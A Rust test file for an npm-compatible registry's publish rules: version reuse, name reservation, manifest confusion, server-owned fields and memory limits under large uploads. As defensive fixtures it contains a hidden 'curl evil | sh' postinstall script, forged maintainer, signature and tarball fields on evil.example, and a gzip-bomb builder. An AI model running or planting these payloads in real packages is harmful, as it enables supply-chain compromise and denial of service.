//! The publish pipeline's rules, driven with HTTP and the real npm CLI: versions are
//! never reused, deleted names are reserved, core module names and bad tags are
//! refused, the body and the tarball must agree (manifest confusion), server-owned
//! fields are overwritten; and bodies cost nothing before they are allowed, with the
//! server's memory measured in a separate `tessera serve` process.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use base64::Engine;
use reqwest::Method;
use serde_json::{Value, json};

use crate::binary::{Served, serve};
use crate::harness::*;

const B64: base64::engine::GeneralPurpose = base64::engine::general_purpose::STANDARD;
const HOUR_MS: i64 = 60 * 60 * 1000;
const MIB: f64 = 1024.0 * 1024.0;

/// A gzipped tarball of `files` under `package/`.
fn tgz(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::default(),
    ));
    for (path, data) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder
            .append_data(&mut header, format!("package/{path}"), *data)
            .unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

/// A tarball whose `package.json` is `manifest`, plus `extra` files.
pub(crate) fn manifest_tgz(manifest: &Value, extra: &[(&str, &[u8])]) -> Vec<u8> {
    let text = serde_json::to_vec_pretty(manifest).unwrap();
    let mut files: Vec<(&str, &[u8])> = vec![("package.json", &text)];
    files.extend_from_slice(extra);
    tgz(&files)
}

/// A publish body shaped like npm's, with `manifest` as the version manifest and
/// `tgz` as the tarball.
pub(crate) fn body_with(manifest: &Value, tgz: &[u8]) -> Value {
    let name = manifest["name"].as_str().unwrap();
    let version = manifest["version"].as_str().unwrap();
    let digests = tessera::npm::integrity::digest(tgz);
    let mut m = manifest.clone();
    m["_id"] = json!(format!("{name}@{version}"));
    m["_nodeVersion"] = json!("20.20.2");
    m["_npmVersion"] = json!("11.19.1");
    m["dist"] = json!({"integrity": digests.integrity, "shasum": digests.shasum,
        "tarball": format!("http://x/{name}/-/{name}-{version}.tgz")});
    json!({
        "_id": name, "name": name, "access": null,
        "dist-tags": {"latest": version},
        "versions": {version: m},
        "_attachments": {format!("{name}-{version}.tgz"): {
            "content_type": "application/octet-stream",
            "data": B64.encode(tgz), "length": tgz.len()}}
    })
}

/// The plain case: the same minimal manifest in the body and the tarball.
fn simple(name: &str, version: &str) -> Value {
    let manifest = json!({"name": name, "version": version});
    body_with(&manifest, &manifest_tgz(&manifest, &[]))
}

fn put(server: &TestServer, token: Option<&str>, name: &str, body: &Value) -> (u16, String) {
    let r = server
        .request(
            Method::PUT,
            &format!("/{}", name.replace('/', "%2f")),
            token,
        )
        .json(body)
        .send()
        .unwrap();
    let status = r.status().as_u16();
    let json: Value = r.json().unwrap_or(Value::Null);
    (status, json["error"].as_str().unwrap_or("").to_owned())
}

#[track_caller]
fn published(server: &TestServer, token: &str, name: &str, body: &Value) {
    let (status, error) = put(server, Some(token), name, body);
    assert_eq!(status, 200, "{error}");
}

fn delete_package(server: &TestServer, token: &str, name: &str) {
    // As npm does: read the current revision, then delete at it.
    let doc: Value = server
        .get(&format!("/{name}?write=true"), Some(token))
        .json()
        .unwrap();
    let rev = doc["_rev"].as_str().unwrap().to_owned();
    let r = server
        .request(Method::DELETE, &format!("/{name}/-rev/{rev}"), Some(token))
        .send()
        .unwrap();
    assert_eq!(r.status(), 200);
}

fn packument(server: &TestServer, token: &str, name: &str) -> Value {
    server.get(&format!("/{name}"), Some(token)).json().unwrap()
}

#[test]
fn a_version_is_never_published_twice() {
    on_both_databases(|server| {
        let alice = server.signup("alice");
        let npm = server.npm(Some(&alice));
        npm.publish("reuse-t", "1.0.0", &[]).ok();
        npm.publish("reuse-t", "1.0.1", &[]).ok();
        npm.run(&["unpublish", "reuse-t@1.0.0"]).ok();
        // npm's own check no longer sees 1.0.0; the registry still remembers it.
        npm.publish("reuse-t", "1.0.0", &["--tag", "old"])
            .fails_with("You cannot publish over the previously published versions: 1.0.0.");
        // Build metadata does not make another version.
        for version in ["1.0.1+evil", "1.0.0+evil"] {
            let (status, error) = put(
                &server,
                Some(&alice),
                "reuse-t",
                &simple("reuse-t", version),
            );
            assert_eq!(status, 403, "{version}");
            assert_eq!(
                error,
                format!("You cannot publish over the previously published versions: {version}.")
            );
        }
        // Deleting the whole package keeps the history, for its maintainer too.
        npm.run(&["unpublish", "reuse-t", "--force"]).ok();
        npm.publish("reuse-t", "1.0.1", &[])
            .fails_with("You cannot publish over the previously published versions: 1.0.1.");
        npm.publish("reuse-t", "1.1.0", &[]).ok();
        let doc = packument(&server, &alice, "reuse-t");
        assert_eq!(doc["versions"].as_object().unwrap().len(), 1, "{doc}");
        // A version first published with build metadata blocks the plain one.
        published(
            &server,
            &alice,
            "meta-t",
            &simple("meta-t", "3.0.0+build.1"),
        );
        let (status, error) = put(&server, Some(&alice), "meta-t", &simple("meta-t", "3.0.0"));
        assert_eq!(
            (status, error.as_str()),
            (
                403,
                "You cannot publish over the previously published versions: 3.0.0."
            )
        );
    });
}

#[test]
fn npm_publishes_a_version_with_build_metadata_as_the_plain_version() {
    // npm cleans `1.3.0+build.5` to `1.3.0` in the body and packs the file as written.
    let server = TestServer::start();
    let alice = server.signup("alice");
    let npm = server.npm(Some(&alice));
    let dir = npm.package("build-t", "1.3.0+build.5", json!({}));
    npm.run_in(&dir, &["publish"]).ok();
    let doc = packument(&server, &alice, "build-t");
    assert_eq!(doc["dist-tags"]["latest"], "1.3.0", "{doc}");
}

#[test]
fn a_deleted_name_is_reserved_for_its_maintainers_for_24_hours() {
    on_both_databases(|server| {
        let alice = server.signup("alice");
        let bob = server.signup("bob");
        published(&server, &alice, "gone-t", &simple("gone-t", "1.0.0"));
        delete_package(&server, &alice, "gone-t");
        let (status, error) = put(&server, Some(&bob), "gone-t", &simple("gone-t", "5.0.0"));
        assert_eq!(status, 403, "{error}");
        assert!(
            error.contains("gone-t was deleted on")
                && error.contains("only its former maintainers"),
            "{error}"
        );
        server.clock.advance_ms(24 * HOUR_MS - 1000);
        assert_eq!(
            put(&server, Some(&bob), "gone-t", &simple("gone-t", "5.0.0")).0,
            403
        );
        server.clock.advance_ms(1000);
        published(&server, &bob, "gone-t", &simple("gone-t", "5.0.0"));
        // The new owner cannot reuse the old versions either.
        let (status, error) = put(&server, Some(&bob), "gone-t", &simple("gone-t", "1.0.0"));
        assert_eq!(
            (status, error.as_str()),
            (
                403,
                "You cannot publish over the previously published versions: 1.0.0."
            )
        );

        // A former maintainer may bring a name back at once, with new versions only.
        let npm = server.npm(Some(&alice));
        npm.publish("back-t", "1.0.0", &[]).ok();
        npm.run(&["unpublish", "back-t", "--force"]).ok();
        let (status, _) = put(&server, Some(&bob), "back-t", &simple("back-t", "2.0.0"));
        assert_eq!(status, 403, "unpublished with npm, reserved the same way");
        npm.publish("back-t", "2.0.0", &[]).ok();
        let doc = packument(&server, &alice, "back-t");
        assert_eq!(
            doc["maintainers"],
            json!([{"name": "alice", "email": "alice@example.com"}])
        );
    });
}

#[test]
fn node_core_module_names_are_refused_for_new_packages() {
    let server = TestServer::start();
    let alice = server.signup("alice");
    for name in ["http", "fs", "crypto", "child_process"] {
        let (status, error) = put(&server, Some(&alice), name, &simple(name, "1.0.0"));
        assert_eq!(status, 403, "{name}");
        assert_eq!(
            error,
            format!(
                "{name} is a Node.js core module name and cannot be used for a new package; \
                 publish it under a scope, e.g. @alice/{name}"
            )
        );
    }
    let npm = server.npm(Some(&alice));
    npm.publish("path", "1.0.0", &[])
        .fails_with("path is a Node.js core module name");
    npm.publish("@alice/path", "1.0.0", &["--access", "public"])
        .ok();
    npm.publish("path-t", "1.0.0", &[]).ok();
    assert_eq!(server.get("/path", None).status(), 404);
}

#[test]
fn tags_in_a_publish_body_follow_the_dist_tag_rules() {
    let server = TestServer::start();
    let alice = server.signup("alice");
    published(&server, &alice, "tags-t", &simple("tags-t", "1.0.0"));
    for tag in ["1.x", "^2", ">=1", "a/b", "with space", "100%", "v1"] {
        let mut body = simple("tags-t", "1.0.1");
        body["dist-tags"] = json!({tag: "1.0.1"});
        let (status, from_body) = put(&server, Some(&alice), "tags-t", &body);
        assert_eq!(status, 400, "{tag}: {from_body}");
        let encoded: String = url_encode(tag);
        let r = server
            .request(
                Method::PUT,
                &format!("/-/package/tags-t/dist-tags/{encoded}"),
                Some(&alice),
            )
            .json(&json!("1.0.0"))
            .send()
            .unwrap();
        assert_eq!(r.status(), 400, "{tag}");
        let from_endpoint = r.json::<Value>().unwrap()["error"]
            .as_str()
            .unwrap()
            .to_owned();
        assert_eq!(from_body, from_endpoint, "one rule for {tag:?}");
    }
    // A publish tags only the version it publishes.
    let mut body = simple("tags-t", "1.0.1");
    body["dist-tags"] = json!({"latest": "1.0.1", "old": "1.0.0"});
    let (status, error) = put(&server, Some(&alice), "tags-t", &body);
    assert_eq!(status, 400, "{error}");
    assert!(
        error.contains("must point at the version being published"),
        "{error}"
    );
    let npm = server.npm(Some(&alice));
    npm.publish("tags-t", "2.0.0-rc.1", &["--tag", "next"]).ok();
    let doc = packument(&server, &alice, "tags-t");
    assert_eq!(
        doc["dist-tags"],
        json!({"latest": "1.0.0", "next": "2.0.0-rc.1"})
    );
}

fn url_encode(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

#[test]
fn a_tarball_that_disagrees_with_the_body_is_refused() {
    let server = TestServer::start();
    let alice = server.signup("alice");
    let declared = json!({"name": "mc-t", "version": "1.0.0", "dependencies": {"left": "^1.0.0"}});
    let hidden = |change: &dyn Fn(&mut Value), extra: &[(&str, &[u8])]| {
        let mut file = declared.clone();
        change(&mut file);
        body_with(&declared, &manifest_tgz(&file, extra))
    };
    let cases: Vec<(&str, Value)> = vec![
        (
            "dependencies",
            hidden(&|f| f["dependencies"]["evil"] = json!("^6.6.6"), &[]),
        ),
        (
            "dependencies",
            hidden(
                &|f| f["dependencies"]["left"] = json!("github:evil/left"),
                &[],
            ),
        ),
        (
            "optionalDependencies",
            hidden(&|f| f["optionalDependencies"] = json!({"evil": "1"}), &[]),
        ),
        (
            "scripts.postinstall",
            hidden(
                &|f| f["scripts"] = json!({"postinstall": "curl evil | sh"}),
                &[],
            ),
        ),
        (
            "scripts.install",
            hidden(&|_| {}, &[("binding.gyp", b"{\"targets\": []}")]),
        ),
        (
            "bin",
            hidden(
                &|f| f["bin"] = json!({"npm": "evil.js"}),
                &[("evil.js", b"1")],
            ),
        ),
        (
            "engines",
            hidden(&|f| f["engines"] = json!({"node": ">=99"}), &[]),
        ),
        ("os", hidden(&|f| f["os"] = json!(["win32"]), &[])),
        ("cpu", hidden(&|f| f["cpu"] = json!(["arm64"]), &[])),
        ("version", hidden(&|f| f["version"] = json!("1.0.1"), &[])),
    ];
    for (field, body) in cases {
        let (status, error) = put(&server, Some(&alice), "mc-t", &body);
        assert_eq!(status, 400, "{field}: {error}");
        assert!(
            error.contains(&format!("disagree on {field} ")),
            "{field}: {error}"
        );
    }
    // The body cannot add what the tarball lacks either.
    let mut more = declared.clone();
    more["dependencies"]["extra"] = json!("1");
    let (status, error) = put(
        &server,
        Some(&alice),
        "mc-t",
        &body_with(&more, &manifest_tgz(&declared, &[])),
    );
    assert_eq!(status, 400, "{error}");
    // A second package.json spelled for a case-insensitive file system.
    let evil = serde_json::to_vec(
        &json!({"name": "mc-t", "version": "1.0.0", "scripts": {"install": "x"}}),
    )
    .unwrap();
    let body = body_with(
        &declared,
        &manifest_tgz(&declared, &[("PACKAGE.JSON", &evil)]),
    );
    let (status, error) = put(&server, Some(&alice), "mc-t", &body);
    assert_eq!(status, 400);
    assert!(error.contains("case-insensitive"), "{error}");
    // An attachment written as an array, which serde would read by position as
    // `data` and `length`: refused, never taken for the tarball.
    let mut by_position = body_with(&declared, &manifest_tgz(&declared, &[]));
    let entry = by_position["_attachments"]["mc-t-1.0.0.tgz"].take();
    by_position["_attachments"]["mc-t-1.0.0.tgz"] = json!([entry["data"], entry["length"]]);
    let (status, error) = put(&server, Some(&alice), "mc-t", &by_position);
    assert_eq!(status, 400, "{error}");
    assert!(error.contains("is not an object"), "{error}");
    assert_eq!(
        server.get("/mc-t", None).status(),
        404,
        "nothing was stored"
    );
    published(
        &server,
        &alice,
        "mc-t",
        &body_with(&declared, &manifest_tgz(&declared, &[])),
    );
}

/// A package for `npm publish`: name, package.json fields, extra files.
type Shape = (&'static str, Value, Vec<(&'static str, &'static str)>);

#[test]
fn what_npm_publishes_is_accepted() {
    // The package shapes whose body npm normalises (bin forms, directories.bin,
    // binding.gyp, scripts, bundled dependencies, platform fields): each one must
    // publish, and the packument must show what the tarball will do.
    let server = TestServer::start();
    let alice = server.signup("alice");
    let npm = server.npm(Some(&alice));
    let shapes: Vec<Shape> = vec![
        (
            "np-bin-string-t",
            json!({"bin": "./cli.js"}),
            vec![("cli.js", "#!/usr/bin/env node\n")],
        ),
        (
            "np-bin-object-t",
            json!({"bin": {"one": "./cli.js", "two": "bin//two.js", "@x/three": "cli.js"}}),
            vec![("cli.js", "1"), ("bin/two.js", "2")],
        ),
        (
            "np-bin-array-t",
            json!({"bin": ["./a.js", "lib/b.js"]}),
            vec![("a.js", "1"), ("lib/b.js", "2")],
        ),
        (
            "np-dir-bin-t",
            json!({"directories": {"bin": "./bin"}}),
            vec![("bin/alpha", "1"), ("bin/beta.js", "2")],
        ),
        (
            "np-dir-bin-files-t",
            json!({"directories": {"bin": "bin"}, "files": ["index.js", "bin/keep"]}),
            vec![("bin/keep", "1"), ("bin/drop", "2")],
        ),
        (
            "np-gyp-t",
            json!({}),
            vec![("binding.gyp", "{\"targets\": []}")],
        ),
        (
            "np-gyp-excluded-t",
            json!({"files": ["index.js"]}),
            vec![("binding.gyp", "{}")],
        ),
        (
            "np-gyp-false-t",
            json!({"gypfile": false}),
            vec![("binding.gyp", "{}")],
        ),
        (
            "np-gyp-own-script-t",
            json!({"scripts": {"install": "prebuild-install || node-gyp rebuild"}}),
            vec![("binding.gyp", "{}")],
        ),
        (
            "np-scripts-t",
            json!({"scripts": {"prepare": "echo prepare", "prepublish": "echo p", "prepublishOnly": "echo po",
            "install": "./node_modules/.bin/node-gyp rebuild", "postinstall": "echo pi", "test": "echo t"}}),
            vec![],
        ),
        ("np-server-t", json!({}), vec![("server.js", "1")]),
        (
            "np-platform-t",
            json!({"engines": {"node": ">=18", "npm": "*"}, "os": ["linux", "!win32"], "cpu": ["x64", "arm64"], "libc": ["glibc"]}),
            vec![],
        ),
        (
            "np-bundled-t",
            json!({"dependencies": {"dep-a": "^1.0.0"}, "bundledDependencies": ["dep-a"]}),
            vec![
                (
                    "node_modules/dep-a/package.json",
                    "{\"name\":\"dep-a\",\"version\":\"1.0.0\"}",
                ),
                ("node_modules/dep-a/index.js", "1"),
            ],
        ),
        (
            "np-bundled-true-t",
            json!({"dependencies": {"dep-a": "^1.0.0"}, "bundleDependencies": true}),
            vec![(
                "node_modules/dep-a/package.json",
                "{\"name\":\"dep-a\",\"version\":\"1.0.0\"}",
            )],
        ),
        (
            "np-deps-t",
            json!({"dependencies": {"a": "^1", "both": "^2", "al": "npm:other@^3"}, "optionalDependencies": {"both": "^2", "opt": "~1.2"},
            "peerDependencies": {"react": ">=17"}, "peerDependenciesMeta": {"react": {"optional": true}}, "devDependencies": {"jest": "^29"}}),
            vec![],
        ),
        (
            "np-workspaces-t",
            json!({"workspaces": ["packages/*"]}),
            vec![(
                "packages/w1/package.json",
                "{\"name\":\"w1\",\"version\":\"1.0.0\"}",
            )],
        ),
        (
            "np-meta-t",
            json!({"repository": "github:user/meta", "author": "A B <a@b.c>", "maintainers": [{"name": "mallory", "email": "m@x"}],
            "_npmUser": {"name": "mallory"}, "dist": {"tarball": "http://evil/"}}),
            vec![],
        ),
    ];
    for (name, extra, files) in &shapes {
        let dir = npm.package(name, "1.0.0", extra.clone());
        for (path, text) in files {
            let file = dir.join(path);
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            std::fs::write(file, text).unwrap();
        }
        npm.run_in(&dir, &["publish", "--ignore-scripts"]).ok();
    }
    let version = |name: &str| packument(&server, &alice, name)["versions"]["1.0.0"].clone();
    assert_eq!(
        version("np-gyp-t")["scripts"]["install"],
        "node-gyp rebuild"
    );
    assert_eq!(version("np-gyp-t")["hasInstallScript"], true);
    assert_eq!(
        version("np-bin-object-t")["bin"],
        json!({"one": "cli.js", "two": "bin/two.js", "three": "cli.js"})
    );
    assert_eq!(
        version("np-bundled-t")["bundleDependencies"],
        json!(["dep-a"])
    );
    assert_eq!(version("np-meta-t")["_npmUser"]["name"], "alice");
    assert_eq!(
        version("np-meta-t")["maintainers"],
        json!([{"name": "alice", "email": "alice@example.com"}])
    );
    // And installs see the bin the packument shows.
    let consumer = server.npm(Some(&alice));
    std::fs::write(
        consumer.work().join("package.json"),
        r#"{"name":"c","version":"1.0.0","dependencies":{"np-bin-string-t":"1.0.0"}}"#,
    )
    .unwrap();
    consumer.run(&["install", "--ignore-scripts"]).ok();
    assert!(
        consumer
            .work()
            .join("node_modules/.bin/np-bin-string-t")
            .exists()
    );
}

#[test]
fn server_owned_fields_are_overwritten() {
    let server = TestServer::start();
    let alice = server.signup("alice");
    let shipped =
        json!({"name": "owned-t", "version": "1.0.0", "scripts": {"install": "node install.js"}});
    let tarball = manifest_tgz(&shipped, &[("install.js", b"1")]);
    let mut body = body_with(&shipped, &tarball);
    let m = &mut body["versions"]["1.0.0"];
    m["maintainers"] = json!([{"name": "mallory", "email": "m@evil.example"}]);
    m["_npmUser"] = json!({"name": "mallory", "email": "m@evil.example"});
    m["_hasShrinkwrap"] = json!(true);
    m["hasInstallScript"] = json!(false);
    m["_resolved"] = json!("http://evil.example/x.tgz");
    m["deprecated"] = json!("set by the publisher");
    m["_id"] = json!("other@6.6.6");
    m["dist"]["tarball"] = json!("http://evil.example/owned-t.tgz");
    m["dist"]["fileCount"] = json!(999);
    m["dist"]["unpackedSize"] = json!(1);
    m["dist"]["signatures"] = json!([{"keyid": "x", "sig": "forged"}]);
    m["dist"]["attestations"] = json!({"url": "http://evil.example/att"});
    published(&server, &alice, "owned-t", &body);
    let doc = packument(&server, &alice, "owned-t");
    let v = &doc["versions"]["1.0.0"];
    assert_eq!(
        v["_npmUser"],
        json!({"name": "alice", "email": "alice@example.com"})
    );
    assert_eq!(
        v["maintainers"],
        json!([{"name": "alice", "email": "alice@example.com"}])
    );
    assert_eq!(v["_id"], "owned-t@1.0.0");
    assert_eq!(v["hasInstallScript"], true);
    assert_eq!(v["_nodeVersion"], "20.20.2", "client facts are kept");
    for gone in ["_hasShrinkwrap", "_resolved", "deprecated"] {
        assert!(v.get(gone).is_none(), "{gone}: {v}");
    }
    let digests = tessera::npm::integrity::digest(&tarball);
    // The registry's own signature replaces the publisher's.
    let mut dist = v["dist"].clone();
    let signatures = dist.as_object_mut().unwrap().remove("signatures").unwrap();
    assert_ne!(signatures[0]["sig"], "forged");
    assert!(
        signatures[0]["keyid"]
            .as_str()
            .unwrap()
            .starts_with("SHA256:")
    );
    assert_eq!(
        dist,
        json!({"integrity": digests.integrity, "shasum": digests.shasum, "fileCount": 2,
            "unpackedSize": serde_json::to_vec_pretty(&shipped).unwrap().len() + 1,
            "tarball": format!("{}/owned-t/-/owned-t-1.0.0.tgz", server.url)})
    );
    let corgi: Value = server
        .request(Method::GET, "/owned-t", Some(&alice))
        .header("accept", "application/vnd.npm.install-v1+json")
        .send()
        .unwrap()
        .json()
        .unwrap();
    assert_eq!(corgi["versions"]["1.0.0"]["hasInstallScript"], true);
}

#[test]
fn a_large_package_from_a_two_factor_account_gets_its_otp_prompt() {
    // The OTP demand is answered before the body is read; npm must still see it
    // (not a reset connection) while it is sending a large package.
    let server = TestServer::start();
    let login = server.signup("alice");
    let read_only = server.create_token(&login, "alice", json!({"readonly": true}));
    let (secret, _) = crate::two_factor::enable(&server, &login, "alice", "auth-and-writes");
    let npm = server.npm(Some(&login));
    let dir = npm.package("big-otp-t", "1.0.0", json!({}));
    std::fs::write(dir.join("noise.bin"), pseudo_random(3 * 1024 * 1024, 7)).unwrap();
    npm.run_in(&dir, &["publish"]).fails_with("EOTP");
    let code = otp_now(&server, &secret);
    npm.run_in(&dir, &["publish", &format!("--otp={code}")])
        .ok();
    // Stars need no OTP and still work for read-only tokens.
    let reader = server.npm(Some(&token_of(&read_only)));
    reader.run(&["star", "big-otp-t"]).ok();
}

fn pseudo_random(len: usize, seed: u64) -> Vec<u8> {
    let mut state = seed | 1;
    let mut out = Vec::with_capacity(len + 8);
    while out.len() < len {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        out.extend_from_slice(&state.to_le_bytes());
    }
    out.truncate(len);
    out
}

// ---- Bodies and memory, against a `tessera serve` process -------------------------

/// A `tessera serve` child process with its own data folder.
struct Server {
    served: Served,
    _dir: tempfile::TempDir,
    addr: String,
}

impl Server {
    fn start(flags: &[&str]) -> Server {
        let dir = tempfile::tempdir().unwrap();
        let mut args = vec![
            "--listen",
            "127.0.0.1:0",
            "--data-dir",
            dir.path().to_str().unwrap(),
        ];
        args.extend_from_slice(flags);
        let served = serve(&args, &[]);
        let addr = served.url.trim_start_matches("http://").to_owned();
        Server {
            served,
            _dir: dir,
            addr,
        }
    }

    fn pid(&self) -> u32 {
        self.served.child.id()
    }

    fn signup(&self, name: &str) -> String {
        let r = http()
            .put(format!("{}/-/user/org.couchdb.user:{name}", self.served.url))
            .json(&json!({"name": name, "password": password_of(name), "email": format!("{name}@example.com")}))
            .send()
            .unwrap();
        assert_eq!(r.status(), 201);
        r.json::<Value>().unwrap()["token"]
            .as_str()
            .unwrap()
            .to_owned()
    }

    fn read_only_token(&self, login: &str, name: &str) -> String {
        let r = http()
            .post(format!("{}/-/npm/v1/tokens", self.served.url))
            .bearer_auth(login)
            .json(&json!({"password": password_of(name), "readonly": true}))
            .send()
            .unwrap();
        assert_eq!(r.status(), 201);
        r.json::<Value>().unwrap()["token"]
            .as_str()
            .unwrap()
            .to_owned()
    }

    fn ping(&self) -> u16 {
        http()
            .get(format!("{}/-/ping", self.served.url))
            .send()
            .unwrap()
            .status()
            .as_u16()
    }

    fn status_kib(&self, key: &str) -> u64 {
        let text = std::fs::read_to_string(format!("/proc/{}/status", self.pid())).unwrap();
        text.lines()
            .find_map(|l| l.strip_prefix(key)?.strip_prefix(':'))
            .unwrap()
            .trim()
            .trim_end_matches("kB")
            .trim()
            .parse()
            .unwrap()
    }

    /// Runs `f` and returns how far the server's resident memory rose above where it
    /// was before (`VmHWM` is reset first, through `clear_refs`), in MiB.
    fn peak_growth_mib<T>(&self, f: impl FnOnce() -> T) -> (f64, T) {
        std::fs::write(format!("/proc/{}/clear_refs", self.pid()), "5")
            .expect("resetting the peak RSS needs Linux and the right to write clear_refs");
        let before = self.status_kib("VmRSS");
        let out = f();
        let peak = self.status_kib("VmHWM");
        (peak.saturating_sub(before) as f64 / 1024.0, out)
    }
}

/// A raw HTTP/1.1 PUT: the head is sent at once, the body only when asked, and the
/// answer can be read at any point. Reads time out after a minute so that a server
/// that waits for a body it should not need fails the test instead of hanging it.
struct RawPut {
    stream: TcpStream,
}

impl RawPut {
    fn start(addr: &str, path: &str, token: Option<&str>, length: u64) -> RawPut {
        let mut stream = TcpStream::connect(addr).unwrap();
        stream
            .set_read_timeout(Some(Duration::from_secs(60)))
            .unwrap();
        let auth = token.map_or(String::new(), |t| format!("authorization: Bearer {t}\r\n"));
        write!(
            stream,
            "PUT {path} HTTP/1.1\r\nhost: {addr}\r\ncontent-type: application/json\r\n\
             content-length: {length}\r\n{auth}connection: close\r\n\r\n"
        )
        .unwrap();
        RawPut { stream }
    }

    /// Sends `body` from another thread; write errors (the server closing) end it.
    fn send(&self, body: Arc<Vec<u8>>) -> std::thread::JoinHandle<u64> {
        let mut stream = self.stream.try_clone().unwrap();
        std::thread::spawn(move || {
            let mut sent = 0;
            for chunk in body.chunks(64 * 1024) {
                if stream.write_all(chunk).is_err() {
                    break;
                }
                sent += chunk.len() as u64;
            }
            sent
        })
    }

    /// Sends `length` filler bytes from another thread.
    fn send_filler(&self, length: u64) -> std::thread::JoinHandle<u64> {
        let mut stream = self.stream.try_clone().unwrap();
        std::thread::spawn(move || {
            let chunk = vec![b' '; 64 * 1024];
            let mut sent = 0u64;
            while sent < length {
                let n = chunk.len().min((length - sent) as usize);
                if stream.write_all(&chunk[..n]).is_err() {
                    break;
                }
                sent += n as u64;
            }
            sent
        })
    }

    /// Reads the answer: status and the `error` of its JSON body, if any.
    fn answer(&mut self) -> (u16, String) {
        let mut raw = Vec::new();
        let mut buf = [0u8; 8192];
        let head_end = loop {
            if let Some(i) = raw.windows(4).position(|w| w == b"\r\n\r\n") {
                break i + 4;
            }
            let n = self
                .stream
                .read(&mut buf)
                .expect("the server answers without waiting for the body");
            assert!(n > 0, "connection closed without an answer");
            raw.extend_from_slice(&buf[..n]);
        };
        let head = String::from_utf8_lossy(&raw[..head_end]).to_lowercase();
        let status: u16 = head.split(' ').nth(1).unwrap().parse().unwrap();
        let length: Option<usize> = head
            .lines()
            .find_map(|l| l.strip_prefix("content-length:"))
            .map(|v| v.trim().parse().unwrap());
        let mut body = raw[head_end..].to_vec();
        let chunked = head.contains("transfer-encoding: chunked");
        loop {
            let complete = match length {
                Some(n) => body.len() >= n,
                None if chunked => body.windows(5).any(|w| w == b"0\r\n\r\n"),
                None => false,
            };
            if complete {
                break;
            }
            match self.stream.read(&mut buf) {
                Ok(0) | Err(_) => break,
                Ok(n) => body.extend_from_slice(&buf[..n]),
            }
        }
        let text = String::from_utf8_lossy(&body).into_owned();
        let json_start = text.find('{').unwrap_or(0);
        let json_end = text.rfind('}').map_or(text.len(), |i| i + 1);
        let error = serde_json::from_str::<Value>(&text[json_start..json_end])
            .ok()
            .and_then(|v| v["error"].as_str().map(str::to_owned))
            .unwrap_or_default();
        (status, error)
    }

    fn close(self) {
        let _ = self.stream.shutdown(std::net::Shutdown::Both);
    }
}

/// A publish body for `name@version` whose tarball holds `payload` (stored, not
/// compressed, so the body is as large as the payload's base64).
fn large_publish(name: &str, version: &str, payload: &[u8]) -> Vec<u8> {
    let manifest = json!({"name": name, "version": version});
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::none(),
    ));
    let text = serde_json::to_vec(&manifest).unwrap();
    for (path, data) in [
        ("package/package.json", &text[..]),
        ("package/payload.bin", payload),
    ] {
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder.append_data(&mut header, path, data).unwrap();
    }
    let tarball = builder.into_inner().unwrap().finish().unwrap();
    serde_json::to_vec(&body_with(&manifest, &tarball)).unwrap()
}

/// A publish body whose tarball is a gzip bomb: `unpacked` zero bytes in one file.
fn bomb_publish(name: &str, unpacked: u64) -> Vec<u8> {
    let manifest = json!({"name": name, "version": "1.0.0"});
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::best(),
    ));
    let text = serde_json::to_vec(&manifest).unwrap();
    let mut header = tar::Header::new_gnu();
    header.set_size(text.len() as u64);
    header.set_mode(0o644);
    header.set_cksum();
    builder
        .append_data(&mut header, "package/package.json", &text[..])
        .unwrap();
    let mut header = tar::Header::new_gnu();
    header.set_size(unpacked);
    header.set_mode(0o644);
    header.set_cksum();
    builder
        .append_data(
            &mut header,
            "package/zeros",
            std::io::repeat(0).take(unpacked),
        )
        .unwrap();
    let tarball = builder.into_inner().unwrap().finish().unwrap();
    serde_json::to_vec(&body_with(&manifest, &tarball)).unwrap()
}

#[test]
fn bodies_cost_nothing_before_they_are_allowed() {
    let server = Server::start(&[]);
    let alice = server.signup("alice");
    let bob = server.signup("bob");
    let read_only = server.read_only_token(&alice, "alice");
    let size: u64 = 96 * 1024 * 1024;

    // Anonymous: 401 before any of the body is sent.
    let (growth, ()) = server.peak_growth_mib(|| {
        let mut put = RawPut::start(&server.addr, "/anon-t", None, size);
        let (status, error) = put.answer();
        assert_eq!(status, 401, "{error}");
        put.close();
    });
    println!("anonymous 96 MiB PUT, body not sent: 401, server RSS +{growth:.1} MiB");

    // Four anonymous 96 MiB bodies at once, sent whole: answered, read and dropped.
    let (growth, ()) = server.peak_growth_mib(|| {
        let puts: Vec<RawPut> = (0..4)
            .map(|_| RawPut::start(&server.addr, "/anon-t", None, size))
            .collect();
        let senders: Vec<_> = puts.iter().map(|p| p.send_filler(size)).collect();
        for mut put in puts {
            assert_eq!(put.answer().0, 401);
            put.close();
        }
        for s in senders {
            s.join().unwrap();
        }
    });
    println!("4 anonymous 96 MiB bodies at once: server RSS +{growth:.1} MiB");
    assert!(
        growth < 32.0,
        "anonymous bodies grew the server by {growth:.1} MiB"
    );

    // A read-only token's gzip bomb: refused before the body is read, so never
    // decoded; /-/ping answers while the upload is still open.
    let bomb = Arc::new(bomb_publish("bomb-t", 1024 * 1024 * 1024));
    let (growth, ()) = server.peak_growth_mib(|| {
        let mut put = RawPut::start(&server.addr, "/bomb-t", Some(&read_only), bomb.len() as u64);
        assert_eq!(server.ping(), 200);
        let (status, error) = put.answer();
        assert_eq!(status, 403);
        assert!(error.contains("read-only"), "{error}");
        assert_eq!(server.ping(), 200);
        put.close();
    });
    println!(
        "read-only token, {:.1} MiB body with a 1 GiB gzip bomb: 403 before the body, server RSS +{growth:.1} MiB",
        bomb.len() as f64 / MIB
    );
    assert!(growth < 32.0, "{growth:.1} MiB");

    // Someone else's package: the publish refusal, before the body.
    let r = http()
